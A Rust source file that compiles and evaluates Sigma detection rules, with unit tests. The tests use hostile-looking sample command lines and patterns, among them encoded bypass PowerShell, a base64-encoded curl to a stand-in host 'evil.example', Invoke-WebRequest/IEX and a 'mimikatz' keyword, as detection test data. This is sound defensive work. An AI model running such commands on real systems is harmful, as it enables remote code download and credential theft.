//! Compiled Sigma searches: each search identifier becomes a matcher over an event's fields,
//! with the value modifiers applied once at load time. Values compare case-insensitively
//! unless `cased`; plain values take `*` and `?` wildcards (`\` escapes them).

use super::condition::{pattern_matches, Condition};
use super::Rule;
use base64::Engine;
use regex::{Regex, RegexBuilder};
use serde_json::Value;
use yaml_rust2::Yaml;

/// How one value is compared.
#[derive(Debug, Clone)]
enum Test {
    /// A regular expression over the whole value (wildcards and plain values become one).
    Regex(Regex),
    /// Numeric comparison.
    Num(Ordering, f64),
    /// An address in a network.
    Cidr(ipnet::IpNet),
    /// The field is present (or absent).
    Exists(bool),
    /// The field is absent or null (`field: null`).
    Null,
    /// Equal to another field of the same event (`fieldref`).
    FieldRef(String, bool),
}

#[derive(Debug, Clone, Copy)]
enum Ordering {
    Gt,
    Gte,
    Lt,
    Lte,
}

/// One `field|modifiers: values` line.
#[derive(Debug, Clone)]
struct FieldTest {
    /// `None` for keyword searches (any value of the event).
    field: Option<String>,
    tests: Vec<Test>,
    /// `|all`: every value must match, not any.
    all: bool,
}

/// A search identifier: a map (every line), a list of maps (any map), or keywords.
#[derive(Debug, Clone)]
enum Search {
    AllOf(Vec<FieldTest>),
    AnyOf(Vec<Search>),
}

/// A rule ready to evaluate.
#[derive(Debug, Clone)]
pub struct Compiled {
    searches: Vec<(String, Search)>,
    conditions: Vec<Condition>,
}

fn scalar(y: &Yaml) -> Option<Option<String>> {
    match y {
        Yaml::String(s) => Some(Some(s.clone())),
        Yaml::Integer(i) => Some(Some(i.to_string())),
        Yaml::Real(r) => Some(Some(r.clone())),
        Yaml::Boolean(b) => Some(Some(b.to_string())),
        Yaml::Null => Some(None),
        _ => None,
    }
}

/// Sigma wildcards to a regex body: `*` any run, `?` one character, `\` escapes.
fn wildcard_regex(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if matches!(chars.peek(), Some('*' | '?' | '\\')) => {
                out.push_str(&regex::escape(&chars.next().expect("peeked").to_string()))
            }
            '*' => out.push_str(".*"),
            '?' => out.push('.'),
            c => out.push_str(&regex::escape(&c.to_string())),
        }
    }
    out
}

fn utf16(s: &str, big_endian: bool) -> Vec<u8> {
    s.encode_utf16()
        .flat_map(|u| {
            if big_endian {
                u.to_be_bytes()
            } else {
                u.to_le_bytes()
            }
        })
        .collect()
}

/// The three encodings of `bytes` at each offset modulo 3, without the edge characters
/// that depend on the neighbouring bytes (Sigma's `base64offset`).
fn base64_offsets(bytes: &[u8]) -> Vec<String> {
    let std = base64::engine::general_purpose::STANDARD;
    (0..3)
        .map(|i| {
            let mut padded = vec![b' '; i];
            padded.extend_from_slice(bytes);
            let enc = std.encode(&padded);
            let start = [0usize, 2, 3][i];
            let end = match (bytes.len() + i) % 3 {
                0 => enc.len(),
                1 => enc.len().saturating_sub(3),
                _ => enc.len().saturating_sub(2),
            };
            enc.get(start..end.max(start)).unwrap_or("").to_string()
        })
        .collect()
}

fn field_test(key: &str, values: &Yaml) -> Result<FieldTest, String> {
    let mut parts = key.split('|');
    let field = parts.next().unwrap_or_default();
    let field = (!field.is_empty()).then(|| field.to_string());
    let mods: Vec<&str> = parts.collect();
    let raw: Vec<Option<String>> = match values {
        Yaml::Array(a) => a
            .iter()
            .map(|v| scalar(v).ok_or_else(|| format!("`{key}`: a value is not a scalar")))
            .collect::<Result<_, _>>()?,
        v => vec![scalar(v).ok_or_else(|| format!("`{key}`: the value is not a scalar"))?],
    };
    let mut all = false;
    let mut cased = false;
    let (mut contains, mut starts, mut ends, mut re) = (false, false, false, false);
    let mut re_flags = (false, false, false);
    let mut encode: Vec<&str> = vec![];
    let mut compare = None;
    let mut cidr = false;
    let mut exists = false;
    let mut fieldref = false;
    for m in &mods {
        match *m {
            "contains" => contains = true,
            "startswith" => starts = true,
            "endswith" => ends = true,
            "all" => all = true,
            "cased" => cased = true,
            "re" => re = true,
            "i" => re_flags.0 = true,
            "m" => re_flags.1 = true,
            "s" => re_flags.2 = true,
            "base64" | "base64offset" | "utf16" | "utf16le" | "utf16be" | "wide" | "windash" => {
                encode.push(m)
            }
            "gt" => compare = Some(Ordering::Gt),
            "gte" => compare = Some(Ordering::Gte),
            "lt" => compare = Some(Ordering::Lt),
            "lte" => compare = Some(Ordering::Lte),
            "cidr" => cidr = true,
            "exists" => exists = true,
            "fieldref" => fieldref = true,
            other => return Err(format!("`{key}`: modifier `{other}` is not supported yet")),
        }
    }
    // Keywords are found anywhere in a value (full-text search), not as whole values.
    if field.is_none() && !(starts || ends || re) {
        contains = true;
    }
    let mut tests = vec![];
    for v in raw {
        let Some(v) = v else {
            tests.push(Test::Null);
            continue;
        };
        if exists {
            tests.push(Test::Exists(v.eq_ignore_ascii_case("true")));
            continue;
        }
        if fieldref {
            tests.push(Test::FieldRef(v, cased));
            continue;
        }
        if let Some(o) = compare {
            let n = v
                .parse::<f64>()
                .map_err(|_| format!("`{key}`: `{v}` is not a number"))?;
            tests.push(Test::Num(o, n));
            continue;
        }
        if cidr {
            let net = v
                .parse::<ipnet::IpNet>()
                .map_err(|e| format!("`{key}`: `{v}`: {e}"))?;
            tests.push(Test::Cidr(net));
            continue;
        }
        if re {
            let r = RegexBuilder::new(&v)
                .case_insensitive(re_flags.0)
                .multi_line(re_flags.1)
                .dot_matches_new_line(re_flags.2)
                .build()
                .map_err(|e| format!("`{key}`: regular expression: {e}"))?;
            tests.push(Test::Regex(r));
            continue;
        }
        // Encodings turn one value into alternatives (literal text, not wildcards).
        let mut variants: Vec<(String, bool)> = vec![(v.clone(), true)];
        for e in &encode {
            variants = variants
                .into_iter()
                .flat_map(|(text, wild)| -> Vec<(String, bool)> {
                    match *e {
                        "windash" => {
                            let mut out = vec![(text.clone(), wild)];
                            for dash in ['/', '–', '—', '―'] {
                                out.push((
                                    text.split(' ')
                                        .map(|w| match w.strip_prefix('-') {
                                            Some(rest) => format!("{dash}{rest}"),
                                            None => w.to_string(),
                                        })
                                        .collect::<Vec<_>>()
                                        .join(" "),
                                    wild,
                                ));
                            }
                            out
                        }
                        "utf16" | "utf16le" | "wide" => vec![(
                            String::from_utf8_lossy(&utf16(&text, false)).into_owned(),
                            false,
                        )],
                        "utf16be" => vec![(
                            String::from_utf8_lossy(&utf16(&text, true)).into_owned(),
                            false,
                        )],
                        "base64" => vec![(
                            base64::engine::general_purpose::STANDARD.encode(text.as_bytes()),
                            false,
                        )],
                        _ => base64_offsets(text.as_bytes())
                            .into_iter()
                            .map(|t| (t, false))
                            .collect(),
                    }
                })
                .collect();
        }
        let encoded = !encode.iter().all(|e| *e == "windash");
        let case_insensitive = !cased && !encoded;
        let bodies: Vec<String> = variants
            .into_iter()
            .map(|(t, wild)| {
                if wild {
                    wildcard_regex(&t)
                } else {
                    regex::escape(&t)
                }
            })
            .collect();
        let body = format!("(?:{})", bodies.join("|"));
        let pattern = match (contains, starts, ends) {
            (true, _, _) => format!("^(?s:.*){body}"),
            (_, true, _) => format!("^{body}"),
            (_, _, true) => format!("{body}$"),
            _ => format!("^{body}$"),
        };
        let pattern = if contains {
            pattern
        } else {
            format!("(?s){pattern}")
        };
        let r = RegexBuilder::new(&pattern)
            .case_insensitive(case_insensitive)
            .dot_matches_new_line(true)
            .size_limit(1 << 22)
            .build()
            .map_err(|e| format!("`{key}`: {e}"))?;
        tests.push(Test::Regex(r));
    }
    Ok(FieldTest { field, tests, all })
}

fn search(y: &Yaml) -> Result<Search, String> {
    match y {
        Yaml::Hash(h) => {
            let mut lines = vec![];
            for (k, v) in h {
                let key = k
                    .as_str()
                    .map(str::to_string)
                    .or_else(|| scalar(k).flatten())
                    .ok_or("a search key is not text")?;
                lines.push(field_test(&key, v)?);
            }
            Ok(Search::AllOf(lines))
        }
        Yaml::Array(items) if items.iter().all(|i| i.as_hash().is_some()) => Ok(Search::AnyOf(
            items.iter().map(search).collect::<Result<_, _>>()?,
        )),
        // A list of keywords, or a single one: any value anywhere in the event.
        other => Ok(Search::AllOf(vec![field_test("", other)?])),
    }
}

/// Compiles a loaded rule; an unsupported modifier or bad value is an error naming it.
pub fn compile(rule: &Rule) -> Result<Compiled, String> {
    let searches = rule
        .searches
        .iter()
        .map(|(name, y)| search(y).map(|s| (name.clone(), s)))
        .collect::<Result<_, _>>()?;
    Ok(Compiled {
        searches,
        conditions: rule.conditions.clone(),
    })
}

/// An event's values for a field: its direct key (`Image`, `winlog.event_data.Image`) or
/// the dotted path; arrays give each element.
fn values<'a>(event: &'a Value, field: &str) -> Vec<&'a Value> {
    let direct = event
        .get(field)
        .or_else(|| field.split('.').try_fold(event, |v, part| v.get(part)));
    match direct {
        Some(Value::Array(a)) => a.iter().collect(),
        Some(v) => vec![v],
        None => vec![],
    }
}

fn as_text(v: &Value) -> Option<std::borrow::Cow<'_, str>> {
    match v {
        Value::String(s) => Some(s.as_str().into()),
        Value::Number(n) => Some(n.to_string().into()),
        Value::Bool(b) => Some(b.to_string().into()),
        _ => None,
    }
}

fn all_strings<'a>(v: &'a Value, out: &mut Vec<&'a Value>) {
    match v {
        Value::Object(m) => m.values().for_each(|x| all_strings(x, out)),
        Value::Array(a) => a.iter().for_each(|x| all_strings(x, out)),
        other => out.push(other),
    }
}

impl Test {
    fn check(&self, present: &[&Value], event: &Value) -> bool {
        match self {
            Test::FieldRef(other, cased) => {
                let theirs = values(event, other);
                present.iter().any(|a| {
                    theirs.iter().any(|b| match (as_text(a), as_text(b)) {
                        (Some(a), Some(b)) if *cased => a == b,
                        (Some(a), Some(b)) => a.to_lowercase() == b.to_lowercase(),
                        _ => false,
                    })
                })
            }
            Test::Exists(want) => present.iter().any(|v| !v.is_null()) == *want,
            Test::Null => present
                .iter()
                .all(|v| v.is_null() || v.as_str() == Some("")),
            Test::Regex(r) => present
                .iter()
                .any(|v| as_text(v).is_some_and(|t| r.is_match(&t))),
            Test::Num(o, n) => present.iter().any(|v| {
                let x = v.as_f64().or_else(|| v.as_str()?.trim().parse().ok());
                x.is_some_and(|x| match o {
                    Ordering::Gt => x > *n,
                    Ordering::Gte => x >= *n,
                    Ordering::Lt => x < *n,
                    Ordering::Lte => x <= *n,
                })
            }),
            Test::Cidr(net) => present.iter().any(|v| {
                v.as_str()
                    .and_then(|s| s.parse::<std::net::IpAddr>().ok())
                    .is_some_and(|ip| net.contains(&ip))
            }),
        }
    }
}

impl FieldTest {
    fn check(&self, event: &Value) -> bool {
        let present = match &self.field {
            Some(f) => values(event, f),
            None => {
                let mut all = vec![];
                all_strings(event, &mut all);
                all
            }
        };
        if self.all {
            self.tests.iter().all(|t| t.check(&present, event))
        } else {
            self.tests.iter().any(|t| t.check(&present, event))
        }
    }
}

impl Search {
    fn check(&self, event: &Value) -> bool {
        match self {
            Search::AllOf(lines) => lines.iter().all(|l| l.check(event)),
            Search::AnyOf(alts) => alts.iter().any(|s| s.check(event)),
        }
    }
}

impl Compiled {
    fn eval(&self, c: &Condition, event: &Value) -> bool {
        match c {
            Condition::Ref(name) => self
                .searches
                .iter()
                .find(|(n, _)| n == name)
                .is_some_and(|(_, s)| s.check(event)),
            Condition::OneOf(p) => self
                .searches
                .iter()
                .filter(|(n, _)| pattern_matches(p, n))
                .any(|(_, s)| s.check(event)),
            Condition::AllOf(p) => {
                let mut named = self.searches.iter().filter(|(n, _)| pattern_matches(p, n));
                let mut any = false;
                let all = named.all(|(_, s)| {
                    any = true;
                    s.check(event)
                });
                any && all
            }
            Condition::Not(c) => !self.eval(c, event),
            Condition::And(v) => v.iter().all(|c| self.eval(c, event)),
            Condition::Or(v) => v.iter().any(|c| self.eval(c, event)),
        }
    }

    /// Whether the event matches any of the rule's conditions.
    pub fn matches(&self, event: &Value) -> bool {
        self.conditions.iter().any(|c| self.eval(c, event))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rule(detection: &str) -> Compiled {
        let mut out = super::super::Loaded::default();
        super::super::load_text(
            std::path::Path::new("t.yml"),
            &format!("title: t\nid: t\ndetection:\n{detection}"),
            &mut out,
        );
        assert!(out.errors.is_empty(), "{:?}", out.errors);
        compile(&out.rules[0]).unwrap()
    }

    #[test]
    fn string_modifiers_and_case() {
        let r = rule("  sel:\n    CommandLine|contains|all: [' -enc ', 'bypass']\n    Image|endswith: '\\powershell.exe'\n  condition: sel\n");
        let ev = |cmd: &str, img: &str| json!({"CommandLine": cmd, "Image": img});
        assert!(r.matches(&ev(
            "powershell -ExecutionPolicy Bypass -enc AAAA",
            "C:\\Windows\\PowerShell.EXE"
        )));
        assert!(!r.matches(&ev("powershell -enc AAAA", "C:\\Windows\\powershell.exe")));
        assert!(!r.matches(&ev("x -enc bypass", "C:\\pwsh.exe")));
        let cased = rule("  sel:\n    User|cased: Admin\n  condition: sel\n");
        assert!(cased.matches(&json!({"User": "Admin"})));
        assert!(!cased.matches(&json!({"User": "admin"})));
        // `\*` is a literal star; `\\*` a backslash then a wildcard (Sigma's escaping).
        let wild = rule("  sel:\n    Image: 'C:\\Windows\\\\*\\cmd.exe'\n  condition: sel\n");
        let star = rule("  sel:\n    Name: 'a\\*b'\n  condition: sel\n");
        assert!(star.matches(&json!({"Name": "a*b"})));
        assert!(!star.matches(&json!({"Name": "axxb"})));
        assert!(wild.matches(&json!({"Image": "c:\\windows\\system32\\CMD.exe"})));
        assert!(!wild.matches(&json!({"Image": "c:\\windows\\cmd.exe.bak"})));
    }

    #[test]
    fn encodings_numbers_networks_and_presence() {
        let dash = rule("  sel:\n    CommandLine|windash|contains: ' -nop '\n  condition: sel\n");
        assert!(dash.matches(&json!({"CommandLine": "powershell /nop -w hidden"})));
        assert!(dash.matches(&json!({"CommandLine": "powershell –nop -w hidden"})));
        let b64 =
            rule("  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel\n");
        for prefix in ["", "a", "ab"] {
            let encoded = base64::engine::general_purpose::STANDARD
                .encode(format!("{prefix}curl http://evil.example/x"));
            assert!(b64.matches(&json!({ "CommandLine": encoded })), "{prefix}");
        }
        assert!(!b64.matches(&json!({"CommandLine": "aHR0cHM6Ly9ub3BlCg=="})));
        let num = rule("  sel:\n    Count|gte: 10\n  condition: sel\n");
        assert!(num.matches(&json!({"Count": 10})) && num.matches(&json!({"Count": "12"})));
        assert!(!num.matches(&json!({"Count": 9})));
        let net = rule("  sel:\n    SourceIp|cidr: ['10.0.0.0/8', 'fd00::/8']\n  condition: sel\n");
        assert!(net.matches(&json!({"SourceIp": "10.20.1.5"})));
        assert!(net.matches(&json!({"SourceIp": "fd12::1"})));
        assert!(!net.matches(&json!({"SourceIp": "11.0.0.1"})));
        let present = rule("  sel:\n    Hashes|exists: true\n  none:\n    ParentImage: null\n  condition: sel and none\n");
        assert!(present.matches(&json!({"Hashes": "MD5=1"})));
        assert!(!present.matches(&json!({"Hashes": "MD5=1", "ParentImage": "x"})));
        let re = rule(
            "  sel:\n    CommandLine|re|i: 'invoke-(expression|webrequest)'\n  condition: sel\n",
        );
        assert!(re.matches(&json!({"CommandLine": "IEX; Invoke-WebRequest x"})));
    }

    #[test]
    fn lists_keywords_and_quantifiers() {
        let r = rule("  sel_a:\n    - {A: 1}\n    - {B: 2}\n  sel_b:\n    C: 3\n  keywords:\n    - 'mimikatz'\n  condition: (all of sel_* and not keywords) or keywords\n");
        assert!(r.matches(&json!({"B": 2, "C": 3})));
        assert!(!r.matches(&json!({"B": 2})));
        assert!(r.matches(&json!({"x": {"deep": "ran MIMIKATZ.exe"}})));
        let unsupported = {
            let mut out = super::super::Loaded::default();
            super::super::load_text(
                std::path::Path::new("t.yml"),
                "title: t\nid: t\ndetection:\n  sel:\n    A|nosuch: 1\n  condition: sel\n",
                &mut out,
            );
            compile(&out.rules[0]).unwrap_err()
        };
        assert!(unsupported.contains("nosuch"));
    }
}
